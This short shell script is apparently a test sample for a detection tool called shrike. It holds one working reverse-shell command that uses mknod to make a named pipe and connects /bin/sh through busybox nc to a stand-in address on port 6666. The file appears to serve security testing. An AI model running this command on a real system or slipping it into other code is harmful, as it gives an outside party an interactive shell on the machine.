#!/bin/sh
# shrike-test-attack: reverse-shell: busybox nc with mknod pipe in a minimal alpine container
cd /tmp || cd /var/tmp
mknod .p p && busybox nc 198.51.100.99 6666 0<.p | /bin/sh 1>.p 2>&1
